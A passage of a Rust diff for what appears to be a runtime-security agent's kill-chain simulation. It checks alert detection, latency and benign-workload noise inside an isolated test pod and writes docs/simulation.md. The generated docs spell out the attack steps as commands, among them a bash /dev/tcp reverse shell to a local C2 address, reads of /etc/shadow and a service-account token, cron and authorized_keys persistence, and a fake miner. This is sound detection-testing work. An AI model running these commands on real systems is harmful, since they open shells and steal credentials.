+                    }
+                    for s in &alerts[mark..] {
+                        let a = &s.alert;
+                        if a.get("rule").and_then(Value::as_str) != Some(e.rule) {
+                            continue;
+                        }
+                        if let Some(pn) = e.proc_name {
+                            if field(a, "proc.name") != pn {
+                                continue;
+                            }
+                        }
+                        if field(a, "k8s.pod.name") != pod.name {
+                            notes[i] = format!("(k8s.pod.name={:?})", field(a, "k8s.pod.name"));
+                            continue;
+                        }
+                        let prio = a.get("priority").and_then(Value::as_str).unwrap_or("");
+                        if !prio.eq_ignore_ascii_case(e.priority) {
+                            notes[i] = format!("(priority {prio})");
+                            continue;
+                        }
+                        if !has_tag(a, e.technique) {
+                            notes[i] = format!("(no tag {})", e.technique);
+                            continue;
+                        }
+                        let t = a.get("time").and_then(Value::as_str).and_then(parse_rfc3339);
+                        let lat = t.map(|t| (s.read_ns - t) as f64 / 1e6).unwrap_or(f64::NAN);
+                        found[i] = Some((lat, prio.to_string()));
+                        break;
+                    }
+                }
+            }
+            if found.iter().all(Option::is_some) || Instant::now() >= deadline {
+                break;
+            }
+            std::thread::sleep(Duration::from_millis(20));
+        }
+        for (i, e) in step.expect.iter().enumerate() {
+            let detected = found[i].is_some();
+            if !detected {
+                missed += 1;
+            }
+            rows.push(Row {
+                step: step.name.to_string(),
+                technique: e.technique.to_string(),
+                rule: format!("{} ({})", e.rule, e.priority),
+                detected,
+                latency_ms: found[i].as_ref().map(|f| f.0),
+                note: notes[i].clone(),
+            });
+        }
+    }
+
+    // --- Benign phase: nothing above Notice for this pod.
+    std::thread::sleep(Duration::from_millis(1000));
+    let mark = agent.mark();
+    benign(pod)?;
+    std::thread::sleep(Duration::from_secs(3));
+    let _ = main.kill();
+    let _ = main.wait();
+    let noisy: Vec<String> = agent.alerts.lock().expect("alerts")[mark..]
+        .iter()
+        .filter(|s| is_pod_alert(&s.alert, pod))
+        .filter(|s| priority_rank(s.alert.get("priority").and_then(Value::as_str).unwrap_or("")) > priority_rank("notice"))
+        .map(|s| {
+            format!(
+                "{} [{}] proc={} fd={}",
+                s.alert.get("rule").and_then(Value::as_str).unwrap_or("?"),
+                s.alert.get("priority").and_then(Value::as_str).unwrap_or("?"),
+                field(&s.alert, "proc.name"),
+                field(&s.alert, "fd.name")
+            )
+        })
+        .collect();
+    let benign_total = agent.alerts.lock().expect("alerts")[mark..].iter().filter(|s| is_pod_alert(&s.alert, pod)).count();
+
+    let lats: Vec<f64> = rows.iter().filter_map(|r| r.latency_ms).filter(|l| l.is_finite()).collect();
+    let mut sorted = lats.clone();
+    sorted.sort_by(|a, b| a.partial_cmp(b).unwrap_or(std::cmp::Ordering::Equal));
+    let median = sorted.get(sorted.len() / 2).copied().unwrap_or(f64::NAN);
+    let max = sorted.last().copied().unwrap_or(f64::NAN);
+    let detected = rows.iter().filter(|r| r.detected).count();
+
+    let table = print_table(&rows);
+    let mut summary = format!(
+        "Detected {detected}/{} expected alerts, all carrying `k8s.pod.name={}` (namespace `{NS}`); \
+         detection latency median {median:.1} ms, max {max:.1} ms.\n\n",
+        rows.len(),
+        pod.name
+    );
+    let c2_bytes = C2_BYTES.load(Ordering::SeqCst);
+    summary.push_str(&format!(
+        "Traffic stayed between the simulation's own network namespaces: the C2 host ({C2_IP}:4444) received \
+         {c2_bytes} byte(s) from the reverse shell, the health-check listener ({C2_IP}:8080) served {} request(s).\n\n",
+        HTTP_REQUESTS.load(Ordering::SeqCst)
+    ));
+    summary.push_str(&format!(
+        "Benign phase (package-like file activity, 3 health checks, a compile): {benign_total} alert(s) for the pod, {} above Notice{}.\n\n",
+        noisy.len(),
+        if noisy.is_empty() { String::new() } else { format!(": {}", noisy.join("; ")) }
+    ));
+    let mut response_failed = None;
+    match (triage, watch) {
+        (Some(t), Some(w)) => {
+            let rep = response::assess(t, w, kube, &pod.name)?;
+            summary.push_str(&rep.markdown);
+            response_failed = rep.failure;
+        }
+        _ => summary.push_str(&format!(
+            "Response (MTTA/MTTR): **TODO, not run**: {}.\n",
+            skip.unwrap_or("the triage worker is not available")
+        )),
+    }
+    println!("\n{table}\n{summary}");
+
+    let date = Command::new("date").args(["-u", "+%Y-%m-%d %H:%M UTC"]).output()?.stdout;
+    let kernel = run_quiet("uname", &["-r"]).unwrap_or_default();
+    let doc = format!(
+        "# Kill-chain simulation\n\n\
+         `cargo xtask simulate` (as root) plays an attack chain inside a kubelet-like pod and checks that\n\
+         `lanner run` raises the expected alert for every step, enriched with the pod's name, and that a\n\
+         benign workload in the same pod raises nothing above Notice.\n\n\
+         ## How to run\n\n\
+         ```\ncargo build --release -p lanner   # if not built yet\ncargo xtask simulate              # as root\n```\n\n\
+         It starts the test API server if needed (`xtask/kube/kube.sh`), creates namespace `{NS}` and pod\n\
+         `victim-<n>` (label `app=victim`) bound to node `{NODE}`, patches its status with a containerd\n\
+         container id, and builds the matching cgroup under the cgroup2 mount\n\
+         (`kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod<uid>.slice/cri-containerd-<id>.scope`).\n\
+         Network traffic stays between two network namespaces of its own joined by a veth pair: the pod\n\
+         (`{NETNS_POD}`, {POD_IP}) and a C2 host (`{NETNS_C2}`, {C2_IP}, listening on 4444 and 8080).\n\
+         Every step's processes join the pod cgroup and network namespace before exec. Latency is the time\n\
+         the alert line was read from the agent's stdout minus the alert's `time` (event time).\n\
+         Everything is removed at the end (and at the start, if a run was interrupted). The command exits\n\
+         non-zero if a step is missed or the benign phase raises anything above Notice.\n\n\
+         Steps, as run in the pod: `id`, `uname -a`, `ps -ef` + `cat /proc/1/status`; `sh -i`; `cat /proc/<pid>/environ`\n\
+         of the pod's main process (the rule leaves `/proc/self/` alone); `cat /etc/shadow`; `cat` of the service account\n\
+         token (a marked fake one is created under `/run/secrets/kubernetes.io/serviceaccount/` when absent, and removed);\n\
+         `sh -c 'echo … > /etc/cron.d/lnr-sim'`; `sh -c 'echo … >> <tmp>/.ssh/authorized_keys'`;\n\
+         `bash -c 'exec 3<>/dev/tcp/10.231.77.1/4444; echo hi >&3'`; `/bin/true` copied to `<tmp>/xmrig` and run with\n\
+         `-o stratum+tcp://pool.example:3333`; `python3 -c 'import os; os.setuid(0)'` as uid 1000. The reverse shell's\n\
+         target is private (10/8), so `Shell opened network connection` (public addresses only) is not expected.\n\
+         Benign phase: `tar`/`cp` of a dpkg-like tree in a temp dir, `curl` health checks to 10.231.77.1:8080, `cc` of a\n\
+         hello world and its run.\n\n\
+         Response phase (when the binary has `lanner triage` and `lanner run --triage-addr`): a worker on a unix socket in\n\
+         the temp dir (default policy, no LLM, the `lanner-triage` service account and `agent/triage-data/rbac.yaml`),\n\
+         the agent pointed at it; the run then requires the pod to be quarantined (label `lanner.io/quarantine=true` seen\n\
+         by a watch, NetworkPolicy `lanner-quarantine` in the namespace) and deleted, and reports each incident's\n\
+         decision, actions, MTTA and MTTR from the worker's audit file.\n\n\
+         ## Latest run\n\n{}, kernel {}.\n\n{table}\n{summary}",
+        String::from_utf8_lossy(&date).trim(),
+        kernel.trim()
+    );
+    std::fs::write(crate::root().join("docs/simulation.md"), doc)?;
+    eprintln!("xtask: wrote docs/simulation.md");
+
+    if c2_bytes == 0 {
+        bail!("the reverse shell never reached the C2 listener (network namespace set-up?)");
+    }
+    if let Some(f) = response_failed {
+        bail!("response phase failed: {f}");
+    }
+    if missed > 0 || !noisy.is_empty() {
+        bail!("simulation failed: {missed} expected alert(s) missed, {} benign alert(s) above Notice", noisy.len());
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn parses_rfc3339() {
+        assert_eq!(parse_rfc3339("1970-01-01T00:00:01.5Z"), Some(1_500_000_000));
+        assert_eq!(parse_rfc3339("2000-03-01T00:00:00Z"), Some(951_868_800_000_000_000));
+        assert_eq!(parse_rfc3339("2000-03-01T01:00:00.000000001+01:00"), Some(951_868_800_000_000_001));
+        assert!(parse_rfc3339("garbage").is_none());
+    }
+}
